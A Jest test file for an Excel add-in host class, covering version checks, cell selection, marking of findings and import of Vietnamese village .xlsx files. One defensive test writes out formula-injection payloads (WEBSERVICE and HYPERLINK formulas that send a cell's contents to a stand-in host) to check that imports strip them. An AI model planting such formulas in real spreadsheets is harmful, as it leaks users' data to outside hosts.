/** OfficeHost against the strict fake: requirement checks, selecting, marking findings, importing .xlsx files. */
import ExcelJS from 'exceljs';
import { PortError } from '../../core/src/port';
import * as xlsxModule from '../../core/src/xlsx/xlsx-workbook';
import { XlsxWorkbook } from '../../core/src/xlsx/xlsx-workbook';
import { sampleLayout } from '../../core/test/port/fixtures';
import { MARK_FILL, MARK_TAB, OfficeHost, TOO_OLD_MESSAGE, checkExcelSupport, toBase64 } from '../src/office-host';
import { FakeExcel } from './fake-office';

function setUp(apiVersion = '1.17', requestBudget?: number): { fake: FakeExcel; host: OfficeHost } {
  const fake = new FakeExcel({ apiVersion });
  // XlsxWorkbook is given statically: jest's CommonJS runtime has no import().
  const loadXlsx = async (): Promise<typeof xlsxModule> => xlsxModule;
  return { fake, host: new OfficeHost(fake.run, { isSupported: fake.isSupported, loadXlsx, ...(requestBudget ? { requestBudget } : {}) }) };
}

async function syncsOf(fake: FakeExcel, call: () => Promise<unknown>): Promise<number> {
  const before = fake.syncs;
  await call();
  return fake.syncs - before;
}

describe('checkExcelSupport', () => {
  const upTo = (max: string) => (v: string) => new FakeExcel({ apiVersion: max }).isSupported(v);

  it('refuses Excel below ExcelApi 1.7 with a plain Vietnamese message', () => {
    expect(checkExcelSupport(upTo('1.1'))).toEqual({ ok: false, message: TOO_OLD_MESSAGE, reduced: [] });
    expect(checkExcelSupport(upTo('1.6')).ok).toBe(false);
    expect(TOO_OLD_MESSAGE).toMatch(/^Phiên bản Excel này quá cũ/);
  });

  it('runs from 1.7 and says what is missing until 1.13', () => {
    const at17 = checkExcelSupport(upTo('1.7'));
    expect(at17.ok).toBe(true);
    expect(at17.reduced).toHaveLength(3);
    expect(at17.reduced[0]).toContain('danh sách chọn');
    expect(checkExcelSupport(upTo('1.12')).reduced).toHaveLength(1);
    expect(checkExcelSupport(upTo('1.13'))).toEqual({ ok: true, reduced: [] });
    expect(checkExcelSupport(upTo('1.17'))).toEqual({ ok: true, reduced: [] });
  });
});

describe('OfficeHost.selectCell', () => {
  it('activates the sheet and selects the cell in one sync', async () => {
    const { fake, host } = setUp();
    fake.addSheet('Sheet1');
    fake.addSheet('Thôn A', [[1]]);
    expect(await syncsOf(fake, () => host.selectCell('Thôn A', '$b$7'))).toBe(1);
    expect(fake.activeSheet).toBe('Thôn A');
    expect(fake.selection).toEqual({ sheet: 'Thôn A', address: 'B7' });
    await host.selectCell('Thôn A', 'C3:D4');
    expect(fake.selection).toEqual({ sheet: 'Thôn A', address: 'C3:D4' });
  });

  it('says so when the sheet is gone or the address is not one', async () => {
    const { fake, host } = setUp();
    fake.addSheet('Sheet1');
    await expect(host.selectCell('Đã xoá', 'A1')).rejects.toMatchObject({ code: 'SHEET_NOT_FOUND', message: 'Không có trang tính "Đã xoá".' });
    await expect(host.selectCell('_lkh', 'A1')).rejects.toBeInstanceOf(PortError);
    await expect(host.selectCell('Sheet1', 'không phải ô')).rejects.toMatchObject({ code: 'BLOCK_INVALID' });
  });
});

describe('OfficeHost.markFindings', () => {
  async function formSheet(): Promise<{ fake: FakeExcel; host: OfficeHost }> {
    const s = setUp();
    s.fake.addSheet('Sheet1');
    await s.host.port.createSheet(sampleLayout('II.4.B'));
    return s;
  }

  it('fills error cells light red, warning cells amber, and a sheet-level finding colours the tab', async () => {
    const { fake, host } = await formSheet();
    const r = await host.markFindings([
      { sheet: 'II.4.B', cell: 'D4', severity: 'error' },
      { sheet: 'ii.4.b', cell: 'C4', severity: 'warning' },
      { sheet: 'II.4.B', cell: 'C4', severity: 'error' },
      { sheet: 'II.4.B', cell: 'B5', severity: 'warning' },
      { sheet: 'II.4.B', severity: 'warning' },
      { sheet: 'Không có', cell: 'A1', severity: 'error' },
      { sheet: 'II.4.B', cell: 'không phải ô', severity: 'error' },
    ]);
    expect(r).toEqual({ cells: 3, tabs: 1 });
    const s = fake.sheet('II.4.B');
    expect(s.at('D4')?.fill).toBe(MARK_FILL.error);
    expect(s.at('C4')?.fill).toBe(MARK_FILL.error);
    expect(s.at('B5')?.fill).toBe(MARK_FILL.warning);
    expect(s.tabColor).toBe(MARK_TAB.warning);
    // The marks are remembered in the state sheet, not in the document state.
    expect(fake.sheet('_lkh').visibility).toBe('VeryHidden');
    expect(await host.port.readState()).toEqual({});
    expect(await host.port.listSheets()).toEqual(['Sheet1', 'II.4.B']);
  });

  it('clears exactly its previous marks first, restoring the fills they covered', async () => {
    const { fake, host } = await formSheet();
    const s = fake.sheet('II.4.B');
    await host.markFindings([
      { sheet: 'II.4.B', cell: 'C3', severity: 'error' }, // a header cell, grey before
      { sheet: 'II.4.B', cell: 'D4', severity: 'warning' },
      { sheet: 'II.4.B', cell: 'B4', severity: 'warning' },
    ]);
    expect(s.at('C3')?.fill).toBe(MARK_FILL.error);
    // The user recolours B4 meanwhile: that colour is theirs now.
    s.ensure(3, 1).fill = '#00FF00';
    await host.markFindings([
      { sheet: 'II.4.B', cell: 'D4', severity: 'error' },
      { sheet: 'II.4.B', cell: 'A5', severity: 'warning' },
    ]);
    expect(s.at('C3')?.fill).toBe('#F2F2F2');
    expect(s.at('B4')?.fill).toBe('#00FF00');
    expect(s.at('D4')?.fill).toBe(MARK_FILL.error);
    expect(s.at('A5')?.fill).toBe(MARK_FILL.warning);

    await host.clearMarks();
    expect(s.at('D4')?.fill).toBeUndefined();
    expect(s.at('A5')?.fill).toBeUndefined();
    expect(s.at('C3')?.fill).toBe('#F2F2F2');
    // Nothing left to undo: the record is gone, and clearing again touches nothing.
    const writes = fake.requests.length;
    await host.clearMarks();
    expect(fake.requests.slice(writes).flatMap((r) => r.ops).filter((o) => o.kind === 'format')).toEqual([]);
  });

  it('restores tab colours too, and forgets sheets deleted since', async () => {
    const { fake, host } = await formSheet();
    fake.sheet('II.4.B').tabColor = '#0070C0';
    fake.addSheet('Tạm', [[1]]);
    await host.markFindings([
      { sheet: 'II.4.B', severity: 'error' },
      { sheet: 'Tạm', cell: 'A1', severity: 'error' },
    ]);
    expect(fake.sheet('II.4.B').tabColor).toBe(MARK_TAB.error);
    fake.sheets.splice(fake.sheets.indexOf(fake.sheet('Tạm')), 1);
    await host.clearMarks();
    expect(fake.sheet('II.4.B').tabColor).toBe('#0070C0');
  });

  it('takes the same number of syncs for 1 finding or 2,000', async () => {
    const { fake, host } = await formSheet();
    const many = Array.from({ length: 2000 }, (_, i) => ({ sheet: 'II.4.B', cell: `E${i + 1}`, severity: 'warning' as const }));
    // No state sheet yet: nothing to read back.
    expect(await syncsOf(fake, () => host.markFindings([{ sheet: 'II.4.B', cell: 'D4', severity: 'error' }]))).toBe(3);
    expect(await syncsOf(fake, () => host.markFindings(many))).toBe(4);
    expect(await syncsOf(fake, () => host.markFindings([{ sheet: 'II.4.B', cell: 'D4', severity: 'error' }]))).toBe(4);
    expect(fake.sheet('II.4.B').at('E2000')?.fill).toBeUndefined();
  });
});

async function villageFile(): Promise<Uint8Array> {
  const source = XlsxWorkbook.create();
  const projects = Array.from({ length: 30 }, (_, i) => `Dự án ${i + 1}, giai đoạn 2026-2030`);
  await source.createSheet(sampleLayout('Biểu I.2', { validations: [{ kind: 'list', row: 3, col: 1, rows: 2, cols: 1, values: projects }] }));
  await source.writeState({ planYear: 2026 });
  const bytes = await source.save();
  // A cell typed in a legacy font, as villages send them.
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes.slice().buffer);
  const ws = wb.getWorksheet('Biểu I.2') as ExcelJS.Worksheet;
  ws.getCell('B7').value = 'NguyÔn V¨n §ång';
  ws.getCell('B7').font = { name: '.VnTime' };
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

describe('OfficeHost.importXlsx', () => {
  it('lets Excel insert the sheets itself from ExcelApi 1.13, without LKH’s own sheets of the file', async () => {
    const { fake, host } = setUp('1.13');
    fake.addSheet('Biểu I.2', [['đã có']]);
    const r = await host.importXlsx('thon-a.xlsx', await villageFile());
    expect(r).toEqual({ sheets: ['Biểu I.2 (2)'], native: true });
    expect(fake.requests.flatMap((q) => q.ops).some((o) => o.kind === 'insert')).toBe(true);
    expect(fake.sheets.map((s) => s.name)).toEqual(['Biểu I.2', 'Biểu I.2 (2)', '_lkh_lists']);
    const [d] = await host.port.readSheets(['Biểu I.2 (2)'], { fonts: true });
    expect(d.values[0][0]).toBe('KẾ HOẠCH THỰC HIỆN');
    expect(d.merges).toEqual([{ row: 0, col: 0, rows: 1, cols: 4 }]);
    // The file's state does not become this workbook's; its drop-down lists stay for its drop-downs.
    expect(await host.port.readState()).toEqual({});
    expect(fake.findSheet('_lkh')).toBeUndefined();
    expect(fake.findSheet('_lkh_lists')?.visibility).toBe('VeryHidden');
    expect(await host.port.listSheets()).toEqual(['Biểu I.2', 'Biểu I.2 (2)']);
  });

  it('writes values (never a formula of the file), fonts and merges as new tabs on older Excel', async () => {
    const { fake, host } = setUp('1.12');
    fake.addSheet('Biểu I.2', [['đã có']]);
    const r = await host.importXlsx('thon-a.xlsx', await villageFile());
    expect(r).toEqual({ sheets: ['Biểu I.2 (2)'], native: false });
    expect(fake.requests.flatMap((q) => q.ops).some((o) => o.kind === 'insert')).toBe(false);
    const s = fake.sheet('Biểu I.2 (2)');
    expect(s.at('A1')?.value).toBe('KẾ HOẠCH THỰC HIỆN');
    expect(s.at('D6')?.value).toBe(4000000);
    expect(s.at('D6')?.formula).toBeUndefined();
    expect(s.at('B7')).toMatchObject({ value: 'NguyÔn V¨n §ång', font: { name: '.VnTime' } });
    expect(s.at('B4')?.font?.name).toBe('Times New Roman');
    expect(s.merges).toEqual([{ row: 0, col: 0, rows: 1, cols: 4 }]);
    expect(fake.findSheet('_lkh')).toBeUndefined();
  });

  it.each(['1.13', '1.12'])('never brings a formula of the file into the workbook (ExcelApi %s): WEBSERVICE, IMPORTXML, HYPERLINK arrive as their values', async (version) => {
    const { fake, host } = setUp(version);
    fake.addSheet('Sheet1');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Thôn A');
    ws.getCell('A1').value = { formula: 'WEBSERVICE("https://example.invalid/?d="&B1)', result: 'ok' };
    ws.getCell('A2').value = { formula: 'HYPERLINK("https://example.invalid/"&B1,"Xem")', result: 'Xem' };
    ws.getCell('A3').value = { formula: 'IMPORTXML("https://example.invalid","//a")', result: 5 };
    ws.getCell('B1').value = 'Nguyễn Văn A';
    const r = await host.importXlsx('thon-a.xlsx', new Uint8Array(await wb.xlsx.writeBuffer()));
    const sheet = fake.sheet(r.sheets[0]);
    expect(['A1', 'A2', 'A3'].map((a) => sheet.at(a)?.value)).toEqual(['ok', 'Xem', 5]);
    expect(['A1', 'A2', 'A3'].map((a) => sheet.at(a)?.formula)).toEqual([undefined, undefined, undefined]);
  });

  it('falls back to writing values when the file is too large for one request', async () => {
    const { fake, host } = setUp('1.17', 8_000);
    fake.addSheet('Sheet1');
    const bytes = await villageFile();
    expect(toBase64(bytes).length).toBeGreaterThan(8_000);
    const r = await host.importXlsx('thon-a.xlsx', bytes);
    expect(r.native).toBe(false);
    expect(fake.sheet('Biểu I.2').at('A1')?.value).toBe('KẾ HOẠCH THỰC HIỆN');
  });

  it('says in Vietnamese when the file is no workbook', async () => {
    for (const version of ['1.17', '1.12']) {
      const { fake, host } = setUp(version);
      fake.addSheet('Sheet1');
      await expect(host.importXlsx('hỏng.xlsx', new Uint8Array([1, 2, 3]))).rejects.toThrow(/^Không mở được tệp "hỏng.xlsx"/);
      expect(fake.sheets.map((s) => s.name)).toEqual(['Sheet1']);
    }
  });

  it('encodes base64 as btoa would for large byte arrays', () => {
    const bytes = new Uint8Array(100_000).map((_, i) => (i * 7) % 256);
    expect(toBase64(bytes)).toBe(Buffer.from(bytes).toString('base64'));
  });
});
